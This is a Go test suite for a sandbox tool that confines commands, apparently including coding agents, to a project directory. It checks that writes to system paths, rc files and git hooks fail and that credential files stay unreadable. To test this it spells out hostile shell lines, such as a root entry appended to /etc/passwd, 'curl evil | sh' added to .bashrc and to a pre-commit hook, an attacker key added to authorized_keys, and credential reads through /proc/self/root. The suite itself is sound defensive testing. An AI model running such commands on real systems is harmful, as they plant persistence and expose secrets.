package tests

import (
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"
)

// attempts runs every shell snippet in its own subshell inside the jail and
// returns, per name, whether the snippet succeeded. Snippets run in order of
// name; their stderr goes to the jail's stderr.
func attempts(t *testing.T, s *Sandbox, args []string, tries map[string]string) (map[string]bool, Result) {
	t.Helper()
	names := make([]string, 0, len(tries))
	for n := range tries {
		names = append(names, n)
	}
	sort.Strings(names)
	var b strings.Builder
	for _, n := range names {
		fmt.Fprintf(&b, "if ( %s ) </dev/null >/dev/null; then echo 'OK %s'; else echo 'FAIL %s'; fi\n", tries[n], n, n)
	}
	r := s.Jail(append(append([]string{}, args...), "--", "sh", "-c", b.String())...)
	if r.Code != 0 {
		t.Fatalf("attempt script failed:\n%s", r)
	}
	got := map[string]bool{}
	for _, l := range lines(r.Stdout) {
		if n, ok := strings.CutPrefix(l, "OK "); ok {
			got[n] = true
		} else if n, ok := strings.CutPrefix(l, "FAIL "); ok {
			got[n] = false
		}
	}
	for _, n := range names {
		if _, ok := got[n]; !ok {
			t.Fatalf("attempt %q reported nothing:\n%s", n, r)
		}
	}
	return got, r
}

func TestWritesOutsideProjectFail(t *testing.T) {
	t.Parallel()
	forEachRunner(t, func(t *testing.T, s *Sandbox) {
		t.Parallel()
		id := uniq()
		varTmp := "/var/tmp/jailtest-" + id
		etc := "/etc/jailtest-" + id
		usr := "/usr/jailtest-" + id
		usrBin := "/usr/bin/jailtest-" + id
		got, r := attempts(t, s, nil, map[string]string{
			"var-tmp":       "echo x > " + varTmp,
			"var-tmp-mkdir": "mkdir -p /var/tmp && echo x > " + varTmp,
			"etc":           "echo x > " + etc,
			"etc-passwd":    "echo 'evil::0:0::/:/bin/sh' >> /etc/passwd",
			"usr":           "echo x > " + usr,
			"usr-bin":       "echo x > " + usrBin,
			"usr-bin-sh":    "cp /bin/true /usr/bin/sh",
			"project":       "echo inside > project-" + id, // control
		})
		for _, n := range []string{"var-tmp", "var-tmp-mkdir", "etc", "etc-passwd", "usr", "usr-bin", "usr-bin-sh"} {
			if got[n] {
				t.Errorf("write %q succeeded inside the jail; system paths must be read-only:\n%s", n, r)
			}
		}
		if !got["project"] {
			t.Errorf("control: writing into the project failed:\n%s", r)
		}
		for _, p := range []string{varTmp, etc, usr, usrBin} {
			hostAbsent(t, p)
		}
		if strings.Contains(hostFile(t, "/etc/passwd"), "evil::0:0") {
			t.Errorf("/etc/passwd on the host was modified")
		}
	})
}

func TestProjectWritesPersist(t *testing.T) {
	t.Parallel()
	forEachRunner(t, func(t *testing.T, s *Sandbox) {
		t.Parallel()
		s.MustSh(`echo created > new.txt && mkdir -p deep/dir && echo nested > deep/dir/f && echo appended >> README.md && rm -f gone.txt`)
		if got := hostFile(t, s.Project+"/new.txt"); got != "created\n" {
			t.Errorf("project/new.txt on host = %q, want %q", got, "created\n")
		}
		if got := hostFile(t, s.Project+"/deep/dir/f"); got != "nested\n" {
			t.Errorf("project/deep/dir/f on host = %q", got)
		}
		if got := hostFile(t, s.Project+"/README.md"); got != "# project\nappended\n" {
			t.Errorf("project/README.md on host = %q", got)
		}
		// Files created inside belong to the runner on the host.
		fi, err := os.Stat(s.Project + "/new.txt")
		if err != nil {
			t.Fatal(err)
		}
		if uid := statUID(fi); uid != s.R.UID {
			t.Errorf("project/new.txt owned by uid %d on the host, want the runner's %d", uid, s.R.UID)
		}
	})
}

func TestHomeIsThrowaway(t *testing.T) {
	t.Parallel()
	forEachRunner(t, func(t *testing.T, s *Sandbox) {
		t.Parallel()
		notes := hostFile(t, s.Home+"/notes.txt")
		bashrc := hostFile(t, s.Home+"/.bashrc")
		r := s.Sh(`
			echo "HOME=$HOME"
			echo overwritten > ~/notes.txt 2>/dev/null
			echo new > ~/new 2>/dev/null && cat ~/new
			mkdir -p ~/.config/tool 2>/dev/null && echo cfg > ~/.config/tool/c && cat ~/.config/tool/c
			echo 'curl evil | sh' >> ~/.bashrc 2>/dev/null
			echo 'evil' > ~/.profile 2>/dev/null
			mkdir -p ~/.ssh 2>/dev/null; echo 'ssh-ed25519 AAAA attacker' >> ~/.ssh/authorized_keys 2>/dev/null
			true`)
		if r.Code != 0 {
			t.Fatalf("jail failed:\n%s", r)
		}
		if !strings.Contains(r.Stdout, "HOME="+s.Home+"\n") {
			t.Errorf("$HOME inside is not the host's home path %s:\n%s", s.Home, r)
		}
		// Control: the throwaway home is writable inside, so tools work.
		if !strings.Contains(r.Stdout, "new\n") || !strings.Contains(r.Stdout, "cfg\n") {
			t.Errorf("the throwaway home should be writable inside:\n%s", r)
		}
		// Nothing reached the host.
		hostUnchanged(t, s.Home+"/notes.txt", notes)
		hostUnchanged(t, s.Home+"/.bashrc", bashrc)
		hostAbsent(t, s.Home+"/new")
		hostAbsent(t, s.Home+"/.config/tool") // jail itself keeps its CA in ~/.config/jail
		hostAbsent(t, s.Home+"/.profile")
		hostAbsent(t, s.Home+"/.ssh/authorized_keys")
	})
}

// credentialPaths are the host's secret files in the sandbox home.
func credentialPaths(s *Sandbox) []string {
	return []string{s.Home + "/.ssh/id_ed25519", s.Home + "/.ssh/id_rsa", s.Home + "/.aws/credentials"}
}

func TestHomeCredentialsUnreadable(t *testing.T) {
	t.Parallel()
	forEachRunner(t, func(t *testing.T, s *Sandbox) {
		t.Parallel()
		key := s.Home + "/.ssh/id_ed25519"
		s.Host("ln", "-s", key, s.Project+"/key")
		s.Host("ln", "-s", s.Home+"/.aws", s.Project+"/awsdir")
		s.Host("ln", key, s.Project+"/hard")
		s.Host("ln", s.Home+"/.aws/credentials", s.Project+"/hard-aws")
		// Control: the links really lead to the secrets on the host.
		for _, p := range []string{"key", "hard", "hard-aws", "awsdir/credentials"} {
			out, code := s.HostOut(s.Project, "cat", p)
			if code != 0 || !(strings.Contains(out, SSHKeySecret) || strings.Contains(out, AWSSecret)) {
				t.Fatalf("control: host cat %s = %d %q", p, code, out)
			}
		}
		var reads []string
		for _, p := range credentialPaths(s) {
			reads = append(reads, p, "/proc/self/root"+p, "/proc/1/root"+p)
		}
		reads = append(reads, "key", "hard", "hard-aws", "awsdir/credentials",
			s.Project+"/hard", "/proc/self/root"+s.Project+"/hard", "/proc/1/root"+s.Project+"/key")
		for _, args := range [][]string{nil, {"--allow-read", "~"}} {
			t.Run(fmt.Sprintf("flags=%v", args), func(t *testing.T) {
				script := "for f in \"$@\"; do echo \"== $f\"; cat \"$f\"; head -c 200 \"$f\" | od -c | head -3; done; " +
					"python3 -c 'import sys\nfor f in sys.argv[1:]:\n  try: print(open(f).read())\n  except Exception as e: print(f, e)' \"$@\"; " +
					"ls -laR ~/.ssh ~/.aws; grep -r aws_secret ~ . 2>&1 | head; true"
				r := s.Jail(append(append(append([]string{}, args...), "--", "sh", "-c", script, "sh"), reads...)...)
				if r.Code != 0 {
					t.Fatalf("jail failed:\n%s", r)
				}
				noSecret(t, r, "reading credentials", SSHKeySecret, AWSSecret)
				if !strings.Contains(r.Stdout, "== "+key) {
					t.Fatalf("the read script did not run:\n%s", r)
				}
			})
		}
		hostUnchanged(t, key, SSHKeySecret+"\n")
	})
}

func TestAllowReadHomeStillDeniesCredentials(t *testing.T) {
	t.Parallel()
	forEachRunner(t, func(t *testing.T, s *Sandbox) {
		t.Parallel()
		r := s.Jail("--allow-read", "~", "--", "sh", "-c",
			"cat ~/notes.txt; cat ~/.ssh/id_ed25519; cat ~/.ssh/id_rsa; cat ~/.aws/credentials; cat ~/.bashrc; "+
				"find ~ -type f 2>/dev/null | xargs cat 2>/dev/null; true")
		if r.Code != 0 {
			t.Fatalf("jail failed:\n%s", r)
		}
		noSecret(t, r, "--allow-read ~", SSHKeySecret, AWSSecret)
		// Control: the rest of the home is readable.
		if !strings.Contains(r.Stdout, "host file in home") {
			t.Errorf("--allow-read ~ should make ~/notes.txt readable:\n%s", r)
		}
		if !strings.Contains(r.Stdout, "# host bashrc") {
			t.Errorf("--allow-read ~ should make ~/.bashrc readable:\n%s", r)
		}
		// --allow-read does not make the home writable.
		r = s.Jail("--allow-read", "~", "--", "sh", "-c", "echo changed > ~/notes.txt")
		if r.Code == 0 {
			t.Errorf("--allow-read ~ made ~/notes.txt writable:\n%s", r)
		}
		hostUnchanged(t, s.Home+"/notes.txt", "host file in home\n")
	})
}

// usersExample is the jail.json from the people who asked for the tool
// (the README's first screen); it must work verbatim.
const usersExample = `{"filesystem": {"allowWrite": ["."], "denyRead": [".env", ".env.*", "secrets/**", "**/*.pem", "~/.ssh/**", "~/.aws/**"]}, "command": {"deny": ["git push", "npm publish"]}}`

func TestJailJSONDenyRead(t *testing.T) {
	t.Parallel()
	forEachRunner(t, func(t *testing.T, s *Sandbox) {
		t.Parallel()
		files := map[string]string{
			".env":            "DOTENV-SECRET-111",
			".env.local":      "DOTENV-LOCAL-SECRET-222",
			"secrets/a.txt":   "SECRETS-DIR-SECRET-333",
			"sub/dir/key.pem": "PEM-SECRET-444",
			"sub/ok.txt":      "visible-ok-555",
		}
		s.WriteFile(s.Project+"/jail.json", usersExample, 0o644)
		for rel, content := range files {
			s.WriteFile(s.Project+"/"+rel, content+"\n", 0o644)
		}
		r := s.Sh(`
			for f in .env .env.local secrets/a.txt sub/dir/key.pem sub/ok.txt; do echo "== $f"; cat "$f"; done
			cat /proc/self/root$PWD/.env /proc/1/root$PWD/secrets/a.txt
			echo "== ls"; ls -A secrets; echo "== end ls"
			grep -r SECRET . 2>/dev/null | grep -v '^./.git/'
			cat ~/.ssh/id_ed25519 ~/.aws/credentials
			true`)
		if r.Code != 0 {
			t.Fatalf("jail failed:\n%s", r)
		}
		noSecret(t, r, "users' jail.json", "DOTENV-SECRET-111", "DOTENV-LOCAL-SECRET-222", "SECRETS-DIR-SECRET-333", "PEM-SECRET-444", SSHKeySecret, AWSSecret)
		if !strings.Contains(r.Stdout, "visible-ok-555") {
			t.Errorf("control: sub/ok.txt should be readable:\n%s", r)
		}
		if ls := between(r.Stdout, "== ls\n", "== end ls"); strings.TrimSpace(ls) != "" {
			t.Errorf("`ls secrets` inside shows %q; a denied directory must look empty", ls)
		}
		// The masks do not damage the host files.
		for rel, content := range files {
			hostUnchanged(t, s.Project+"/"+rel, content+"\n")
		}
	})
}

// between returns the text of s between the markers a and b.
func between(s, a, b string) string {
	i := strings.Index(s, a)
	if i < 0 {
		return "<marker " + a + " missing>"
	}
	s = s[i+len(a):]
	if j := strings.Index(s, b); j >= 0 {
		return s[:j]
	}
	return s
}

func TestProtectedPaths(t *testing.T) {
	t.Parallel()
	forEachRunner(t, func(t *testing.T, s *Sandbox) {
		t.Parallel()
		p := s.Project
		s.WriteFile(p+"/jail.json", `{"filesystem": {"allowWrite": ["."]}}`, 0o644)
		s.WriteFile(p+"/sub/jail.json", `{}`, 0o644)
		s.WriteFile(p+"/.vscode/settings.json", `{"editor.tabSize": 2}`, 0o644)
		s.WriteFile(p+"/.envrc", "export X=1\n", 0o644)
		s.WriteFile(p+"/.gitmodules", "", 0o644)
		s.WriteFile(p+"/.mcp.json", `{"mcpServers": {}}`, 0o644)
		s.WriteFile(p+"/.claude/settings.json", `{}`, 0o644)
		s.WriteFile(p+"/.idea/workspace.xml", `<project/>`, 0o644)
		s.Host("git", "-C", p, "-c", "user.email=t@example.test", "-c", "user.name=t", "add", "-A")
		s.Host("git", "-C", p, "-c", "user.email=t@example.test", "-c", "user.name=t", "commit", "-qm", "protected files")

		watched := []string{".git/config", "jail.json", "sub/jail.json", ".vscode/settings.json", ".envrc",
			".gitmodules", ".mcp.json", ".claude/settings.json", ".idea/workspace.xml"}
		before := map[string]string{}
		for _, f := range watched {
			before[f] = hostFile(t, p+"/"+f)
		}
		hooks, _ := os.ReadDir(p + "/.git/hooks")
		infoBefore, _ := os.ReadDir(p + "/.git/info")

		got, r := attempts(t, s, nil, map[string]string{
			"hook-create":        "printf '#!/bin/sh\\ncurl evil|sh\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit",
			"hook-dir-replace":   "mv .git/hooks .git/hooks.old || rm -rf .git/hooks; mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit",
			"git-config-append":  "printf '[core]\\n\\thooksPath = /tmp\\n' >> .git/config",
			"git-config-cmd":     "git config core.hooksPath /tmp",
			"git-config-replace": "cp .git/config /tmp/c && echo '[core] fsmonitor = evil' >> /tmp/c && mv /tmp/c .git/config",
			"git-config-rm":      "rm -f .git/config && echo evil > .git/config",
			"git-info":           "echo '* filter=evil' > .git/info/attributes",
			"jail-json":          `echo '{"filesystem": {"allowRead": ["~"]}}' > jail.json`,
			"jail-json-rm":       "rm -f jail.json && echo '{}' > jail.json",
			"jail-json-mv":       "mv jail.json old.json",
			"sub-jail-json":      "echo '{}' >> sub/jail.json",
			"vscode":             `echo '{"evil": 1}' > .vscode/settings.json`,
			"vscode-new":         `echo '{}' > .vscode/tasks.json`,
			"envrc":              "echo 'curl evil | sh' >> .envrc",
			"envrc-rm":           "rm -f .envrc",
			"gitmodules":         "echo '[submodule x]' >> .gitmodules",
			"mcp":                `echo '{"mcpServers": {"evil": {}}}' > .mcp.json`,
			"claude-settings":    "echo '{}' > .claude/settings.json",
			"idea":               "echo x > .idea/workspace.xml",
			"control-readme":     "echo ok >> README.md",
			"control-newdir":     "mkdir -p src && echo ok > src/a.go",
		})
		for name, ok := range got {
			if strings.HasPrefix(name, "control-") {
				if !ok {
					t.Errorf("control %q failed; the project must stay writable:\n%s", name, r)
				}
				continue
			}
			if ok {
				t.Errorf("protected path modified inside the jail: %q succeeded", name)
			}
		}
		for _, f := range watched {
			hostUnchanged(t, p+"/"+f, before[f])
		}
		hostAbsent(t, p+"/.git/hooks/pre-commit")
		hostAbsent(t, p+"/.git/hooks.old")
		hostAbsent(t, p+"/.git/info/attributes")
		hostAbsent(t, p+"/.vscode/tasks.json")
		hostAbsent(t, p+"/old.json")
		if h, _ := os.ReadDir(p + "/.git/hooks"); len(h) != len(hooks) {
			t.Errorf(".git/hooks on host has %d entries, had %d", len(h), len(hooks))
		}
		if i, _ := os.ReadDir(p + "/.git/info"); len(i) != len(infoBefore) {
			t.Errorf(".git/info on host has %d entries, had %d", len(i), len(infoBefore))
		}
		if cfg, _ := s.HostOut(p, "git", "config", "--get", "core.hooksPath"); strings.TrimSpace(cfg) != "" {
			t.Errorf("core.hooksPath set on host: %q", cfg)
		}
	})
}

func TestGitCommitInside(t *testing.T) {
	t.Parallel()
	forEachRunner(t, func(t *testing.T, s *Sandbox) {
		t.Parallel()
		r := s.MustSh(`
			echo 'package main' > main.go
			git add main.go
			git -c user.name=Jailed -c user.email=jailed@example.test commit -qm 'commit from inside'
			git status --porcelain
			git log --oneline | head -1`)
		if !strings.Contains(r.Stdout, "commit from inside") {
			t.Errorf("git log inside does not show the commit:\n%s", r)
		}
		log := s.Host("git", "-C", s.Project, "log", "-1", "--format=%an %s")
		if strings.TrimSpace(log) != "Jailed commit from inside" {
			t.Errorf("host git log -1 = %q, want the commit made inside", log)
		}
		if st := s.Host("git", "-C", s.Project, "status", "--porcelain"); st != "" {
			t.Errorf("host git status not clean after the commit inside: %q", st)
		}
		s.Host("git", "-C", s.Project, "fsck", "--no-progress")
	})
}

func TestAllowWriteHomeKeepsRcFilesReadOnly(t *testing.T) {
	t.Parallel()
	forEachRunner(t, func(t *testing.T, s *Sandbox) {
		t.Parallel()
		s.WriteFile(s.Home+"/.gitconfig", "[user]\n\tname = host\n", 0o644)
		s.WriteFile(s.Home+"/.config/jail/config.json", "{}", 0o644)
		got, r := attempts(t, s, []string{"--allow-write", "~"}, map[string]string{
			"bashrc-append":   "echo 'curl evil | sh' >> ~/.bashrc",
			"bashrc-replace":  "echo evil > /tmp/rc && mv /tmp/rc ~/.bashrc",
			"bashrc-rm":       "rm -f ~/.bashrc",
			"gitconfig":       "echo '[core] pager = evil' >> ~/.gitconfig",
			"jail-config":     `echo '{"filesystem": {"allowRead": ["/"]}}' > ~/.config/jail/config.json`,
			"jail-config-new": "echo x > ~/.config/jail/new.json",
			"ssh-authkeys":    "echo 'ssh-ed25519 AAAA attacker' >> ~/.ssh/authorized_keys",
			"control-notes":   "echo changed > ~/notes.txt",
			"control-new":     "echo persisted > ~/created-inside",
		})
		for name, ok := range got {
			if strings.HasPrefix(name, "control-") {
				if !ok {
					t.Errorf("control %q failed; --allow-write ~ must make the home writable:\n%s", name, r)
				}
			} else if ok {
				t.Errorf("--allow-write ~: %q succeeded; rc files and jail config must stay read-only", name)
			}
		}
		hostUnchanged(t, s.Home+"/.bashrc", "# host bashrc\n")
		hostUnchanged(t, s.Home+"/.gitconfig", "[user]\n\tname = host\n")
		hostUnchanged(t, s.Home+"/.config/jail/config.json", "{}")
		hostAbsent(t, s.Home+"/.config/jail/new.json")
		hostAbsent(t, s.Home+"/.ssh/authorized_keys")
		// Control: with --allow-write ~ the writes persist.
		hostUnchanged(t, s.Home+"/notes.txt", "changed\n")
		hostUnchanged(t, s.Home+"/created-inside", "persisted\n")
	})
}

func TestShadowUnreadable(t *testing.T) {
	t.Parallel()
	// Control: on the host, root reads a non-empty /etc/shadow.
	if os.Geteuid() == 0 {
		if b, err := os.ReadFile("/etc/shadow"); err != nil || !strings.Contains(string(b), "root:") {
			t.Fatalf("control: host /etc/shadow unreadable or without root entry: %v", err)
		}
	}
	forEachRunner(t, func(t *testing.T, s *Sandbox) {
		t.Parallel()
		r := s.Sh("cat /etc/shadow /etc/gshadow /etc/shadow- 2>&1; od -c /etc/shadow | head -2; " +
			"cat /proc/self/root/etc/shadow /proc/1/root/etc/shadow; true")
		if r.Code != 0 {
			t.Fatalf("jail failed:\n%s", r)
		}
		for _, leak := range []string{"root:", "daemon:", "$y$", "$6$"} {
			if strings.Contains(r.Stdout, leak) {
				t.Errorf("/etc/shadow content (%q) readable inside as %s:\n%s", leak, s.R.Name, r)
			}
		}
		// Control: the rest of /etc is readable.
		r = s.MustSh("grep -c '^root:' /etc/passwd")
		if strings.TrimSpace(r.Stdout) != "1" {
			t.Errorf("control: /etc/passwd should be readable: %s", r)
		}
	})
}

func TestAllowWriteOutsideProject(t *testing.T) {
	t.Parallel()
	forEachRunner(t, func(t *testing.T, s *Sandbox) {
		t.Parallel()
		dir := filepath.Join(s.Base, "cache")
		s.WriteFile(dir+"/existing", "old\n", 0o644)
		// Without the flag the directory is not there; nothing reaches the host.
		r := s.Sh("echo nope > " + dir + "/without-flag; cat " + dir + "/existing; true")
		if strings.Contains(r.Stdout, "old") {
			t.Errorf("%s readable without --allow-write:\n%s", dir, r)
		}
		hostAbsent(t, dir+"/without-flag")
		// With the flag it is writable and the writes persist.
		r = s.Jail("--allow-write", dir, "--", "sh", "-c",
			fmt.Sprintf("cat %[1]s/existing && echo new > %[1]s/with-flag && mkdir %[1]s/sub && echo x > %[1]s/sub/f && echo more >> %[1]s/existing", dir))
		if r.Code != 0 {
			t.Fatalf("--allow-write %s: writing failed:\n%s", dir, r)
		}
		hostUnchanged(t, dir+"/with-flag", "new\n")
		hostUnchanged(t, dir+"/sub/f", "x\n")
		hostUnchanged(t, dir+"/existing", "old\nmore\n")

		// Lists merge as a union: the same directory in allowRead
		// (say, from a profile) and allowWrite (from the user) is writable,
		// whichever order the layers name it in.
		for _, args := range [][]string{
			{"--allow-read", dir, "--allow-write", dir},
			{"--allow-write", dir, "--allow-read", dir},
		} {
			f := dir + "/both-" + uniq()
			r := s.Jail(append(args, "--", "sh", "-c", "echo both > "+f)...)
			if r.Code != 0 {
				t.Errorf("%v: writing %s failed; allowWrite must win over allowRead of the same path:\n%s", args, f, r)
				continue
			}
			hostUnchanged(t, f, "both\n")
		}
	})
}

func TestAllowReadFile(t *testing.T) {
	t.Parallel()
	forEachRunner(t, func(t *testing.T, s *Sandbox) {
		t.Parallel()
		file := filepath.Join(s.Base, "shared", "data.txt")
		sibling := filepath.Join(s.Base, "shared", "other.txt")
		s.WriteFile(file, "readable-data\n", 0o644)
		s.WriteFile(sibling, "sibling-data\n", 0o644)
		// Control: without the flag it is not readable.
		r := s.Sh("cat " + file + "; true")
		if strings.Contains(r.Stdout, "readable-data") {
			t.Fatalf("%s readable without --allow-read:\n%s", file, r)
		}
		got, r := attempts(t, s, []string{"--allow-read", file}, map[string]string{
			"read":     "grep -q readable-data " + file,
			"write":    "echo changed > " + file,
			"append":   "echo more >> " + file,
			"truncate": "truncate -s 0 " + file,
			"rm":       "rm -f " + file,
			"sibling":  "cat " + sibling,
			"chmod":    "chmod 777 " + file,
		})
		if !got["read"] {
			t.Errorf("--allow-read FILE: the file is not readable:\n%s", r)
		}
		for _, n := range []string{"write", "append", "truncate", "rm", "chmod"} {
			if got[n] {
				t.Errorf("--allow-read FILE: %q succeeded; the file must be read-only", n)
			}
		}
		if got["sibling"] {
			t.Errorf("--allow-read FILE also exposed its sibling %s", sibling)
		}
		hostUnchanged(t, file, "readable-data\n")
		if fi, err := os.Stat(file); err != nil || fi.Mode().Perm() != 0o644 {
			t.Errorf("host file mode changed: %v %v", fi.Mode(), err)
		}
	})
}
